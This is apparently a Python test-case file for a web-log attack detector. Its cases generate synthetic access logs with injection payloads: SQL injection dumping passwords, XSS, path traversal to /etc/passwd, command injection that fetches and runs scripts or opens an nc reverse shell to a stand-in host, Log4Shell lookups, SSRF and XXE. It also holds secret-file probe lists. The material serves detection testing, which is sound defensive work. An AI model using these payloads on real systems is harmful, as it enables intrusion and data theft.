"""Cases with an attack or a failure that must be found."""

import urllib.parse
import uuid

from traffic import Log, Shop, browser, honest_address, person

ATTACKER = "203.0.113.9"
CASES = {}


def case(form):
    """Registers a function that builds one case. It returns the log and what is expected of it."""
    def register(build):
        CASES[build.__name__] = (form, build)
        return build
    return register


def background(seed, minutes=30, people=16, machines=True, **options):
    log = Log(seed)
    shop = Shop(log, minutes, **options)
    shop.people(people)
    if machines:
        shop.machines()
    return log, shop


def expect(kind, actor=ATTACKER, level="MEDIUM", **more):
    return {"type": kind, "actor": actor, "min_level": level, **more}


def quoted(text):
    return urllib.parse.quote(text, safe="")


def payloads(log, targets, since, statuses=(200, 403, 500, 200), gap=7, agent=None, method="GET", ip=ATTACKER):
    """Some pages to look around, then one payload after the other."""
    rng = log.rng
    agent = agent or browser(rng)
    log.add(since - 20, ip, agent, "GET", "/", 200)
    log.add(since - 9, ip, agent, "GET", "/products?page=1", 200)
    second = since
    for number, target in enumerate(targets):
        log.add(second, ip, agent, method, target, statuses[number % len(statuses)])
        second += rng.uniform(0.5, 2) * gap


@case("combined")
def sql_injection():
    log, _ = background(101)
    texts = ["lamp'", "lamp' OR '1'='1", "lamp' OR 1=1-- -", "lamp' ORDER BY 9-- -", "lamp' UNION SELECT NULL,NULL,NULL-- -", "lamp' UNION SELECT 1,version(),3-- -",
             "lamp' UNION SELECT 1,table_name,3 FROM information_schema.tables-- -", "lamp' UNION SELECT 1,email||':'||password,3 FROM users-- -",
             "lamp' AND SLEEP(5)-- -", "lamp'; DROP TABLE carts;-- -"]
    payloads(log, ["/search?q=" + quoted(text) for text in texts], 900, statuses=(500, 200, 200, 500, 500, 200, 200, 200, 200, 500))
    return log, [expect("sql_injection")]


@case("combined_time")
def xss():
    log, _ = background(102)
    texts = ["<script>alert(1)</script>", "\"><script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)//",
             "<iframe src=javascript:alert(1)>", "'><body onload=alert(document.domain)>", "<script src=//evil.example/x.js></script>"]
    payloads(log, ["/search?q=" + quoted(text) for text in texts], 800, statuses=(200,))
    return log, [expect("xss")]


@case("common")
def path_traversal():
    log, _ = background(103)
    paths = ["../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/passwd", "..%252f..%252f..%252fetc%252fpasswd", "/../../../../etc/shadow",
             "..\\..\\..\\windows\\win.ini", "../../../../proc/self/environ", "../../../../var/www/.htpasswd"]
    payloads(log, ["/download?file=" + path for path in paths], 700, statuses=(400, 200, 404, 403))
    return log, [expect("path_traversal")]


@case("nginx_json")
def file_inclusion():
    log, _ = background(104)
    files = ["http://203.0.113.77/shell.txt?", "php://filter/convert.base64-encode/resource=index.php", "php://input", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
             "expect://id", "https://evil.example/c99.php", "phar://upload/avatar.jpg/x.php", "php://filter/read=string.rot13/resource=config.php"]
    payloads(log, ["/index.php?page=" + quoted(file) for file in files], 800, statuses=(200, 500, 403))
    return log, [expect("file_inclusion")]


@case("combined")
def command_injection():
    log, _ = background(105)
    texts = ["127.0.0.1;id", "127.0.0.1|cat /etc/passwd", "127.0.0.1 && uname -a", "$(whoami)", "`curl http://203.0.113.77/x.sh|sh`", "127.0.0.1;wget http://203.0.113.77/bot -O /tmp/b;chmod +x /tmp/b;/tmp/b",
             "127.0.0.1||nc -e /bin/sh 203.0.113.77 4444", "127.0.0.1;sleep 10"]
    payloads(log, ["/tools/ping?host=" + quoted(text) for text in texts], 900, statuses=(200, 200, 500))
    return log, [expect("command_injection")]


@case("json")
def template_injection():
    log, _ = background(106)
    texts = ["{{7*7}}", "${7*7}", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "<%= 7*7 %>", "#{7*7}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
             "${T(java.lang.Runtime).getRuntime().exec('id')}"]
    payloads(log, ["/cards/preview?name=" + quoted(text) for text in texts], 800, statuses=(200, 200, 500))
    return log, [expect("template_injection")]


@case("combined")
def ldap_injection():
    log, _ = background(107)
    texts = ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*)", "admin)(!(&(1=0)))", "*))%00", "x)(|(password=*))", "*)(&(objectClass=user)(memberOf=*"]
    payloads(log, ["/directory?name=" + quoted(text) for text in texts], 800, statuses=(200, 500))
    return log, [expect("ldap_injection")]


@case("json")
def nosql_injection():
    log, _ = background(108)
    agent = browser(log.rng)
    bodies = ['{"username":{"$ne":null},"password":{"$ne":null}}', '{"username":{"$gt":""},"password":{"$gt":""}}', '{"username":"admin","password":{"$regex":"^a"}}',
              '{"username":"admin","password":{"$regex":"^b"}}', '{"username":{"$in":["admin","root"]},"password":{"$gt":""}}', '{"$where":"this.password.length > 0"}']
    for number, body in enumerate(bodies):
        log.add(900 + 9 * number, ATTACKER, agent, "POST", "/api/v1/members/find", 200 if number % 3 == 1 else 500, body=body)
    payloads(log, ["/api/v1/members?name[$ne]=x", "/api/v1/members?filter[$where]=1%3D%3D1"], 990, agent=agent)
    return log, [expect("nosql_injection")]


@case("json")
def xxe():
    log, _ = background(109)
    agent = browser(log.rng)
    for number, system in enumerate(["file:///etc/passwd", "file:///c:/windows/win.ini", "http://169.254.169.254/latest/meta-data/", "php://filter/read=convert.base64-encode/resource=/etc/passwd", "http://203.0.113.77/x.dtd"]):
        entity = f'<!ENTITY % x SYSTEM "{system}"> %x;' if number == 4 else f'<!ENTITY x SYSTEM "{system}">'
        log.add(900 + 11 * number, ATTACKER, agent, "POST", "/api/v1/orders/import", 200 if number % 2 else 500,
                body=f'<?xml version="1.0"?><!DOCTYPE o [{entity}]><order><note>&x;</note></order>')
    return log, [expect("xxe")]


@case("w3c")
def ssrf():
    log, _ = background(110)
    urls = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:6379/", "http://localhost/admin", "gopher://127.0.0.1:6379/_INFO", "http://metadata.google.internal/computeMetadata/v1/",
            "file:///etc/passwd", "http://[::1]:8080/", "http://0x7f000001/"]
    payloads(log, ["/preview?url=" + quoted(url) for url in urls], 800, statuses=(200, 500, 200))
    return log, [expect("ssrf")]


@case("combined")
def log4shell():
    log, _ = background(111)
    lookups = ["${jndi:ldap://203.0.113.77:1389/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.77/a}", "${${::-j}${::-n}${::-d}${::-i}:rmi://203.0.113.77/o}", "${${env:X:-j}ndi:dns://x.evil.example}"]
    for number, lookup in enumerate(lookups):
        log.add(800 + 5 * number, ATTACKER, lookup, "GET", "/", 200)
        log.add(802 + 5 * number, ATTACKER, "Mozilla/5.0", "GET", "/search?q=" + quoted(lookup), 200, referer=lookup)
    return log, [expect("log4shell")]


@case("json")
def http_smuggling():
    log, _ = background(112)
    for number in range(8):
        headers = {"Host": "shop.example.org", "Content-Length": str(6 + number), "Transfer-Encoding": "chunked" if number % 2 else "xchunked", "Connection": "keep-alive"}
        log.add(900 + 6 * number, ATTACKER, browser(log.rng), "POST", "/", 200 if number % 3 else 400, headers=headers, body="0\r\n\r\nGET /admin HTTP/1.1\r\nX: x")
    return log, [expect("http_smuggling")]


@case("combined")
def crlf_injection():
    log, _ = background(113)
    texts = ["/%0d%0aSet-Cookie:%20admin=true", "home%0d%0aLocation:%20https://evil.example/", "x%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b", "en%0d%0aX-Injected:%20yes",
             "x%0aSet-Cookie:%20session=1"]
    payloads(log, ["/go?to=" + text for text in texts], 800, statuses=(302,))
    return log, [expect("crlf_injection")]


PROBES = ["/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/", "/phpmyadmin/", "/config.php.bak", "/backup.zip", "/db.sql", "/.aws/credentials", "/server-status", "/actuator/env",
          "/.svn/entries", "/web.config", "/.htpasswd", "/id_rsa", "/.DS_Store", "/cgi-bin/test.cgi", "/solr/admin/", "/manager/html", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/xmlrpc.php",
          "/config.json", "/admin.php", "/shell.php", "/test.php", "/info.php", "/old/", "/dump.sql", "/.vscode/settings.json"]


@case("combined")
def scanner():
    log, _ = background(114)
    agent = browser(log.rng)
    for number, path in enumerate(PROBES * 2):
        log.add(900 + 0.7 * number, ATTACKER, agent, "GET", path if number < len(PROBES) else "/shop" + path, 403 if number == 10 else 404)
    return log, [expect("scanner")]


@case("combined")
def scanner_tool():
    log, _ = background(115)
    for number in range(60):
        path = "/search?q=lamp%27" if number == 40 else f"/{log.rng.choice(['cgi', 'admin', 'old', 'test', 'app'])}{number}/{log.rng.choice(['index', 'main', 'login'])}.asp"
        log.add(700 + 0.4 * number, ATTACKER, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)" % number, "GET", path, 200 if number == 40 else 404)
    return log, [expect("scanner")]


@case("json")
def endpoint_enumeration():
    log, _ = background(116)
    agent = browser(log.rng)
    words = ("users accounts admin internal debug metrics reports billing invoices customers export import search upload files jobs queue cache config settings flags roles groups teams tenants audit events "
             "webhooks payments refunds coupons prices inventory suppliers warehouse shipments returns reviews ratings notes tags labels").split()
    for number, word in enumerate(words + ["v2/" + word for word in words[:20]]):
        log.add(800 + 1.1 * number, ATTACKER, agent, "GET", "/api/v1/" + word if "/" not in word else "/api/" + word, 404)
    return log, [expect("endpoint_enumeration")]


@case("combined")
def endpoint_enumeration_refused():
    """Guesses endpoints behind a gateway that refuses as many as it does not find, one in half a minute, and looks at pages in between."""
    log, shop = background(148, minutes=70, people=50)
    agent = browser(log.rng)
    words = ["admin", "internal", "debug", "users", "config", "settings", "export", "backup", "logs", "metrics", "keys", "roles", "audit", "jobs", "queue", "cache", "dump", "flags", "tenants", "billing"]
    for number in range(100):
        second = 300 + 30 * number + log.rng.uniform(0, 12)
        if number % 3 == 2:
            shop.page(second, ATTACKER, agent, f"/products/{log.rng.randint(1, 900)}", assets=1)
        else:
            log.add(second, ATTACKER, agent, "GET", f"/api/{('v1', 'v2', 'internal')[number % 3]}/{words[number * 7 % 20]}{number // 20 or ''}", 403 if number % 2 else 404)
    return log, [expect("endpoint_enumeration")]


@case("combined")
def brute_force():
    log, _ = background(117)
    agent = browser(log.rng)
    for number in range(90):
        log.add(800 + 2.3 * number + log.rng.random(), ATTACKER, agent, "POST", "/login", 401, size=1532)
    return log, [expect("brute_force", endpoint="/login")]


@case("combined_forwarded")
def brute_force_behind_proxy():
    """All traffic comes through one proxy with a public address, which the settings name."""
    log, _ = background(118)
    agent = browser(log.rng)
    for number in range(80):
        log.add(800 + 2.1 * number, ATTACKER, agent, "POST", "/login", 401, size=1532)
    for row in log.rows:
        row["proxy"] = "192.0.2.250"
    return log, [expect("brute_force", endpoint="/login")], {"Proxies": {"TrustedNetworks": ["192.0.2.250/32"]}}


@case("combined")
def brute_force_by_other_names():
    """Logins that are no /login: the action of a query, a remote procedure, a code sent to a phone, a form that sends its password in the address, and a word of another language."""
    log, _ = background(157, minutes=120)
    doors = [
        ("POST", "/index.php?option=com_users&task=user.login", 403),
        ("POST", "/rpc/UserService.Authenticate", 403),
        ("POST", "/otp/verify", 401),
        ("GET", "/login?username=admin&password=%d", 401),
        ("POST", "/se-connecter", 401),
    ]
    expected = []
    for door, (method, target, status) in enumerate(doors):
        agent = browser(log.rng)
        ip = f"203.0.113.{10 + door}"
        for number in range(90):
            log.add(800 + 1200 * door + 2.3 * number + log.rng.random(), ip, agent, method, target % number if "%" in target else target, status, size=1532)
        expected.append(expect("brute_force", ip))
    return log, expected


@case("json")
def brute_force_one_account():
    """One account, guessed at from twelve addresses in turn."""
    log, _ = background(119, names_people=True)
    for number in range(144):
        log.add(700 + 4 * number, f"203.0.113.{10 + number % 12}", browser(log.rng), "POST", "/login", 401, size=1532, user="admin")
    return log, [{"type": "brute_force", "min_level": "MEDIUM"}]


@case("json")
def password_spraying():
    log, _ = background(120, minutes=45, people=20, names_people=True)
    agent = browser(log.rng)
    for number in range(120):
        log.add(600 + 15 * number + log.rng.uniform(0, 6), ATTACKER, agent, "POST", "/login", 302 if number == 77 else 401, size=1532, user=person(400 + number % 40))
    return log, [expect("password_spraying", endpoint="/login")]


@case("json")
def credential_stuffing():
    log, _ = background(121, names_people=True)
    agent = browser(log.rng)
    for number in range(240):
        log.add(600 + 2 * number + log.rng.random(), ATTACKER, agent, "POST", "/login", 302 if number % 80 == 33 else 401, size=1532, user=person(500 + number * 7 % 1000))
    return log, [expect("credential_stuffing", endpoint="/login")]


@case("combined")
def credential_stuffing_distributed():
    """Sixty addresses, each with a browser of its own, three or four attempts each: none of them stands out."""
    log, _ = background(122, minutes=45, people=40)
    for number in range(60):
        agent = browser(log.rng)
        for _ in range(log.rng.randint(3, 4)):
            log.add(log.rng.uniform(900, 2400), f"203.0.113.{20 + number}", agent, "POST", "/login", 302 if log.rng.random() < 0.01 else 401, size=1532)
    return log, [{"type": "credential_stuffing", "actor_kind": "distributed", "min_members": 30, "endpoint": "/login", "min_level": "HIGH"}]


@case("combined")
def first_line_from_the_future():
    """A machine whose clock was wrong at its start writes one line of the year 2099; then the time is right, and sixty addresses try passwords."""
    log, _ = background(140, minutes=45, people=40)
    for number in range(60):
        agent = browser(log.rng)
        for _ in range(log.rng.randint(3, 4)):
            log.add(log.rng.uniform(900, 2400), f"203.0.113.{20 + number}", agent, "POST", "/login", 401, size=1532)
    log.add(73 * 365 * 86400, "192.0.2.200", "curl/8.4.0", "GET", "/health", 200, place=0)
    return log, [{"type": "credential_stuffing", "actor_kind": "distributed", "endpoint": "/login", "min_level": "HIGH"}]


@case("combined")
def login_attacks_at_once():
    """While sixty addresses go through a list, one guesses at a single password for itself: two attacks."""
    log, _ = background(151, minutes=45, people=40)
    for number in range(60):
        agent = browser(log.rng)
        for _ in range(log.rng.randint(3, 4)):
            log.add(log.rng.uniform(900, 2400), f"203.0.113.{20 + number}", agent, "POST", "/login", 401, size=1532)
    for number in range(240):
        log.add(1500 + 1.2 * number + log.rng.random(), ATTACKER, "python-requests/2.31.0", "POST", "/login", 401, size=1532)
    return log, [{"type": "credential_stuffing", "actor_kind": "distributed", "min_members": 30, "endpoint": "/login", "min_level": "HIGH"},
                 expect("brute_force", endpoint="/login", actor_kind="ip")]


@case("json")
def spraying_while_people_log_in():
    """Common passwords are tried on eighty accounts, round by round; meanwhile some of their owners come in at home and change their data: nobody took over anything."""
    log, shop = background(152, minutes=90, people=24, names_people=True)
    for owner in range(8):
        home, own = f"198.51.100.{210 + owner}", browser(log.rng)
        for second in (60 + 31 * owner, 3700 + 97 * owner):
            _, user = shop.login(second, home, own, person(400 + owner), failures=0)
            for number in range(8):
                shop.page(second + 20 + 15 * number, home, own, f"/products/{log.rng.randint(1, 900)}", assets=2, user=user)
        log.add(3900 + 97 * owner, home, own, "POST", "/account/email", 200, user=user)
        log.add(3940 + 97 * owner, home, own, "POST", "/account/password", 200, user=user)
    agent = browser(log.rng)
    for number in range(480):
        log.add(2700 + 3.5 * number + log.rng.random(), ATTACKER, agent, "POST", "/login", 401, size=1532, user=person(400 + number % 80))
    return log, [expect("password_spraying", endpoint="/login")]


@case("combined")
def account_takeover_without_names():
    """The log names nobody: an address never seen before fails three times, comes in, and changes one thing after the other."""
    log, _ = background(153, minutes=120, people=120)
    agent = browser(log.rng)
    for number in range(3):
        log.add(5000 + 11 * number, ATTACKER, agent, "POST", "/login", 401, size=1532)
    log.add(5040, ATTACKER, agent, "POST", "/login", 302, size=0)
    log.add(5052, ATTACKER, agent, "POST", "/account/email", 200)
    log.add(5081, ATTACKER, agent, "POST", "/account/password", 200)
    log.add(5120, ATTACKER, agent, "POST", "/account/payment-methods", 201)
    return log, [expect("account_takeover")]


@case("json")
def credential_stuffing_in_parallel():
    """Two lists are tried at the same time from two addresses, each with names of its own, at forty a minute."""
    log, _ = background(156, minutes=40, people=24, names_people=True)
    for attacker, first in (("203.0.113.9", 500), ("203.0.113.77", 1700)):
        agent = browser(log.rng)
        for number in range(400):
            log.add(900 + 1.5 * number + log.rng.random(), attacker, agent, "POST", "/login", 401, size=1532, user=person(first + number))
    return log, [expect("credential_stuffing", endpoint="/login"), expect("credential_stuffing", actor="203.0.113.77", endpoint="/login")]


@case("combined")
def credential_stuffing_slow():
    """Fifty addresses, three attempts each within half an hour, where forty people an hour log in."""
    log, _ = background(157, minutes=100, people=130)
    for number in range(50):
        agent = browser(log.rng)
        for _ in range(3):
            log.add(log.rng.uniform(3600, 5400), f"203.0.113.{20 + number}", agent, "POST", "/login", 401, size=1532)
    return log, [{"type": "credential_stuffing", "actor_kind": "distributed", "min_members": 25, "endpoint": "/login", "min_level": "HIGH"}]


@case("json")
def account_takeover():
    log, shop = background(123, minutes=90, people=24, names_people=True)
    home, victim, own = "198.51.100.201", "mia.victor", browser(log.rng)
    shop.login(60, home, own, victim, failures=0)
    for number in range(14):
        shop.page(90 + 25 * number, home, own, f"/products/{log.rng.randint(1, 900)}", assets=2, user=victim)
    agent = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/109.0"
    for number in range(7):
        log.add(4000 + 9 * number, ATTACKER, agent, "POST", "/login", 401, size=1532, user=victim)
    log.add(4070, ATTACKER, agent, "POST", "/login", 302, size=0, user=victim)
    log.add(4082, ATTACKER, agent, "GET", "/account", 200, user=victim)
    log.add(4100, ATTACKER, agent, "POST", "/account/email", 200, user=victim)
    log.add(4131, ATTACKER, agent, "POST", "/account/password", 200, user=victim)
    log.add(4180, ATTACKER, agent, "POST", "/account/payment-methods", 201, user=victim)
    return log, [{"type": "account_takeover", "actor": victim, "min_level": "HIGH"}]


@case("combined")
def data_scraping():
    """Takes the catalogue list by list, product by product."""
    log, _ = background(124)
    products = log.rng.sample(range(1, 900), 480)
    second = 300.0
    for number, product in enumerate(products):
        if number % 24 == 0:
            log.add(second, ATTACKER, "python-requests/2.31.0", "GET", f"/products?page={number // 24 + 1}", 200)
        second += 1 + log.rng.random()
        log.add(second, ATTACKER, "python-requests/2.31.0", "GET", f"/products/{product}", 200)
    return log, [expect("data_scraping", endpoint="/products/{id}")]


@case("combined")
def data_scraping_by_number():
    """Takes the catalogue number by number; one product in twenty-five no longer exists."""
    log, _ = background(138)
    for number in range(500):
        log.add(300 + 1.5 * number + log.rng.random(), ATTACKER, "python-requests/2.31.0", "GET", f"/products/{1 + number}", 404 if number % 25 == 11 else 200)
    return log, [expect("data_scraping", endpoint="/products/{id}")]


@case("combined")
def data_scraping_by_unguessable_ids():
    """Takes six hundred orders whose identifiers nobody can guess, and not one of which is missing: a list must have told them."""
    log, _ = background(170)
    for number in range(600):
        log.add(300 + 1.5 * number + log.rng.random(), ATTACKER, "python-requests/2.31.0", "GET", f"/api/v1/orders/{uuid.UUID(int=log.rng.getrandbits(128), version=4)}", 200)
    return log, [expect("data_scraping", endpoint="/api/v1/orders/{id}")]


@case("combined")
def data_scraping_distributed():
    """Thirty addresses share a list of products: each takes every thirtieth, slowly, as a browser that fetches no pictures."""
    log, _ = background(146, minutes=60, people=60)
    agents = [browser(log.rng) for _ in range(30)]
    for number in range(780):
        second = 900 + 1.5 * number + log.rng.uniform(0, 3)
        log.add(second, f"203.0.113.{number % 30 + 20}", agents[number % 30], "GET", f"/products/{101 + number}", 200)
    return log, [{"type": "data_scraping", "actor_kind": "distributed", "min_members": 25, "endpoint": "/products/{id}", "min_level": "MEDIUM"}]


@case("json")
def data_exfiltration():
    log, shop = background(125, people=30, names_people=True)
    agent, thief = browser(log.rng), "karl.archer"
    second, _ = shop.login(300, "198.51.100.222", agent, thief, failures=0)
    for number in range(22):
        second += log.rng.uniform(20, 50)
        log.add(second, "198.51.100.222", agent, "GET", f"/api/v1/reports/{log.rng.randint(1000, 9000)}/raw", 200, size=log.rng.randint(8_000_000, 16_000_000), millis=log.rng.randint(150, 400), user=thief)
    return log, [{"type": "data_exfiltration", "actor": thief, "min_level": "MEDIUM"}]


@case("json")
def object_enumeration():
    log, _ = background(126, names_people=True)
    agent = browser(log.rng)
    for number in range(260):
        log.add(500 + 1.7 * number, ATTACKER, agent, "GET", f"/api/v1/invoices/{20400 + number}", 200 if number % 3 == 0 else 403, user="eve.adams")
    return log, [{"type": "object_enumeration", "actor": "eve.adams", "endpoint": "/api/v1/invoices/{id}", "min_level": "MEDIUM"}]


@case("combined_vhost")
def object_enumeration_anonymous():
    log, _ = background(127)
    for number in range(300):
        log.add(500 + 1.2 * number, "2001:db8:bad::%x" % (number % 3 + 1), "curl/8.4.0", "GET", f"/receipts/{5000 + number}", 200 if number % 4 else 404)
    return log, [{"type": "object_enumeration", "actor": "2001:db8:bad::/64", "min_level": "MEDIUM"}]


@case("nginx_json")
def parameter_fuzzing():
    log, _ = background(128)
    agent = "python-requests/2.31.0"
    values = ["-1", "0", "99999999999999999999", "null", "NaN", "[]", "true", "1e309", "%00", "A" * 400, "0x10", "1.5", "", "%20", "-0", "2147483648", "undefined", "%F0%9F%98%80", "1,2", "{}"]
    for number in range(120):
        name = ("limit", "offset", "page", "sort", "depth", "lang")[number // 20]
        log.add(600 + 1.3 * number, ATTACKER, agent, "GET", f"/api/v1/listing?{name}={values[number % 20]}", 500 if number % 20 == 9 else 422 if number % 20 else 200)
    return log, [expect("parameter_fuzzing")]


@case("json")
def parameter_fuzzing_patient():
    """Tries parameters that nobody documented, one in twenty seconds, between requests that anybody makes."""
    log, shop = background(147, minutes=60, people=40)
    agent = browser(log.rng)
    names = ["debug", "admin", "test", "role", "fields", "include", "expand", "verbose", "trace", "raw", "locale", "order", "filter", "where", "token", "scope", "view", "template", "mode", "env", "source", "version", "pretty", "internal"]
    for number in range(120):
        second = 400 + 20 * number + log.rng.uniform(0, 8)
        if number % 3 == 2:
            shop.page(second, ATTACKER, agent, f"/products/{log.rng.randint(1, 900)}", assets=1)
        else:
            log.add(second, ATTACKER, agent, "GET", f"/search?q=lamp&{names[number % 24]}={log.rng.choice(['1', 'true', '-1', '', '[]', '*'])}", 400 if number % 4 else 200)
    return log, [expect("parameter_fuzzing")]


@case("combined")
def rate_abuse():
    log, _ = background(129)
    for number in range(3600):
        log.add(600 + number / 10, ATTACKER, "Go-http-client/1.1", "GET", "/api/v1/quote?symbol=ACME", 200 if number % 10 < 4 else 429, size=180)
    return log, [expect("rate_abuse")]


@case("common_time")
def resource_exhaustion():
    log, _ = background(130, people=30)
    for number in range(60):
        log.add(700 + 12 * number, ATTACKER, "-", "GET", f"/reports/search?from=1990-01-01&to=2026-0{number % 9 + 1}-01&group=day", 503 if number % 7 == 6 else 200, millis=log.rng.randint(9000, 24000))
    return log, [expect("resource_exhaustion")]


@case("json")
def resource_exhaustion_on_a_shared_route():
    """One caller's reports take a hundred times as long as everybody's: that caller's doing, and no trouble of the route."""
    log, shop = background(149, minutes=60, people=60)
    for number in range(260):
        log.add(60 + 13 * number, honest_address(number % 50), browser(log.rng), "GET", f"/reports/search?q={number % 30}", 200, millis=log.rng.randint(80, 220))
    agent = browser(log.rng)
    for number in range(300):
        log.add(2000 + 3 * number, ATTACKER, agent, "GET", f"/reports/search?q={number}&limit=100000", 504 if number % 8 == 5 else 200, millis=log.rng.randint(9000, 24000))
    return log, [expect("resource_exhaustion")]


@case("combined")
def bot_headless():
    log, _ = background(131)
    agent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36"
    second = 400.0
    for number in range(120):
        second += log.rng.uniform(2, 9)
        kind = ("products", "brands", "categories", "articles", "stores", "offers")[number % 6]
        log.add(second, ATTACKER, agent, "GET", f"/{kind}/{log.rng.randint(1, 900)}", 200)
    return log, [expect("bot")]


@case("combined")
def bot_clockwork():
    """Calls itself a browser, asks for a page every five seconds sharp, and never for a picture."""
    log, _ = background(132, people=30)
    agent = browser(log.rng)
    for number in range(130):
        kind = ("products", "brands", "categories", "articles", "stores", "offers")[number % 6]
        log.add(400 + 5 * number, ATTACKER, agent, "GET", f"/{kind}/{log.rng.randint(1, 900)}", 200)
    return log, [expect("bot")]


@case("combined")
def bot_watching():
    """Calls itself a browser, never loads a picture, and looks at the same three products again and again, at irregular times."""
    log, _ = background(154, minutes=100, people=110)
    agent = browser(log.rng)
    second = 4200.0
    for _ in range(150):
        second += 1 + log.rng.expovariate(1 / 4)
        log.add(second, ATTACKER, agent, "GET", f"/products/{log.rng.choice([311, 312, 640])}", 200)
    return log, [expect("bot")]


@case("combined")
def object_enumeration_by_query():
    """Tries one post after the other by its number in the query; most belong to others, and being told so takes few bytes."""
    log, shop = background(160, minutes=60, people=40)
    for number in range(60):
        second = log.rng.uniform(60, 3300)
        for _ in range(log.rng.randint(1, 4)):
            shop.page(second, honest_address(number), browser(log.rng), f"/editor/post.php?post={60000 + 8 * number + log.rng.randint(0, 4)}&action=edit", assets=1)
            second += 20 + log.rng.expovariate(1 / 60)
    agent, second = browser(log.rng), 1500.0
    for number in range(140):
        second += 1 + log.rng.expovariate(1 / 3)
        log.add(second, ATTACKER, agent, "GET", f"/editor/post.php?post={61000 + 3 * number}&action=edit", log.rng.choice([403, 403, 403, 404]), size=130)
    return log, [expect("object_enumeration", endpoint="/editor/post.php")]


@case("json")
def guesses_are_told_once():
    """Somebody guesses one account's password once a second; what is counted under the account's name is no second incident."""
    log, _ = background(161, minutes=60, people=320, names_people=True)
    for turn in range(700):
        log.add(2400 + turn + log.rng.uniform(0, 0.2), ATTACKER, "python-requests/2.31.0", "POST", "/login", 401, size=1550, user="admin")
    return log, [expect("brute_force")]


@case("combined")
def bot_watching_by_script():
    """A script without credentials asks for the same product every three seconds, as regularly as a clock."""
    log, _ = background(156, minutes=100, people=260)
    for turn in range(700):
        log.add(3300 + 3 * turn + log.rng.uniform(0, 0.3), ATTACKER, "python-requests/2.31.0", "GET", "/products/311", 200, size=4100)
    return log, [expect("bot", endpoint="/products/{id}")]


@case("combined")
def bot_waiting_at_the_cart():
    """Calls itself a browser, never loads a picture, and asks for the cart again and again, at irregular times."""
    log, _ = background(157, minutes=100, people=260)
    agent = browser(log.rng)
    second = 4300.0
    for _ in range(130):
        second += 0.4 + log.rng.expovariate(1 / 2.5)
        log.add(second, ATTACKER, agent, "GET", "/cart", 200)
    return log, [expect("bot", endpoint="/cart")]


@case("combined")
def data_scraping_with_many_agents():
    """One address that shows another browser's name every few requests, and takes product after product without a picture."""
    log, _ = background(158, minutes=60, people=90)
    second = 1500.0
    for number, product in enumerate(log.rng.sample(range(1, 900), 150)):
        if number % 8 == 0:
            agent = browser(log.rng)
        second += 1 + log.rng.expovariate(1 / 2)
        log.add(second, ATTACKER, agent, "GET", f"/products/{product}", 200)
    return log, [expect("data_scraping", endpoint="/products/{id}")]


@case("json")
def data_scraping_in_one_session():
    """An API without pictures: one session, another browser's name every few requests, one item after the other in a hurry."""
    log = Log(159)
    for caller in range(240):
        second, ip, agent, session = log.rng.uniform(0, 3400), honest_address(caller), browser(log.rng), f"s{caller:06x}"
        for _ in range(log.rng.randint(2, 14)):
            log.add(second, ip, agent, "GET", f"/v1/templates/{log.rng.choice('abcdefgh')}{log.rng.randint(10, 99)}x", 200, size=5200, session=session)
            log.add(second + 2, ip, agent, "GET", log.rng.choice(["/v1/boards", "/v1/me", "/v1/news"]), 200, session=session)
            second += 4 + log.rng.expovariate(1 / 15)
    second = 1500.0
    for number in range(150):
        if number % 8 == 0:
            agent = browser(log.rng)
        second += 0.8 + log.rng.expovariate(1 / 1.5)
        log.add(second, ATTACKER, agent, "GET", f"/v1/templates/{'abcdefgh'[number % 8]}{10 + number // 8}x", 200, size=5200, session="s9f00aa")
    return log, [expect("data_scraping")]


@case("json")
def data_scraping_one_after_another():
    """A list that few people read, taken by one stranger after the other: what the first ones took is not what is usual when the last one comes."""
    log = Log(161)
    targets = [f"/v1/rates?base={base}&date=2025-{month:02d}-{day:02d}" for base in ("EUR", "USD", "GBP") for month in range(7, 13) for day in range(1, 29)]
    for caller in range(500):
        second, ip, agent = log.rng.uniform(0, 36000), honest_address(caller), browser(log.rng)
        for _ in range(log.rng.randint(1, 4)):
            log.add(second, ip, agent, "GET", log.rng.choice(targets[-40:]), 200, size=5200)
            log.add(second + 3, ip, agent, "GET", log.rng.choice(["/v1/boards", "/v1/me", "/v1/news"]), 200)
            second += 4 + log.rng.expovariate(1 / 20)
    strangers = [f"203.0.113.{9 * number + 10}" for number in range(24)]
    for number, stranger in enumerate(strangers):
        second, agent = 9000.0 + 1080 * number, browser(log.rng)
        for target in log.rng.sample(targets, 120):
            log.add(second, stranger, agent, "GET", target, 200, size=5200)
            second += log.rng.expovariate(1 / 6)
    return log, [expect("data_scraping", actor=stranger) for stranger in strangers]


@case("combined")
def skipped_steps():
    """A service whose callers all walk from choice to payment, and one who only calls the steps that change something, in any order."""
    log = Log(155)
    usual = [("GET", "/v1/start"), ("GET", "/v1/catalog"), ("GET", "/v1/item"), ("POST", "/v1/basket"), ("POST", "/v1/address"), ("GET", "/v1/delivery"), ("POST", "/v1/payment"),
             ("POST", "/v1/confirm"), ("GET", "/v1/receipt")]
    for caller in range(740):
        second, ip = log.rng.uniform(0, 5.4 * 3600), f"198.51.{100 + caller // 250}.{caller % 250 + 1}"
        for _ in range(4):
            for method, step in usual:
                if log.rng.random() < 0.06:
                    continue
                log.add(second, ip, "okhttp/4.12.0", method, step, 200, size=900)
                second += log.rng.uniform(3, 25)
    writes = ["/v1/confirm", "/v1/payment", "/v1/address", "/v1/basket"]
    second = 5.1 * 3600
    for _ in range(60):
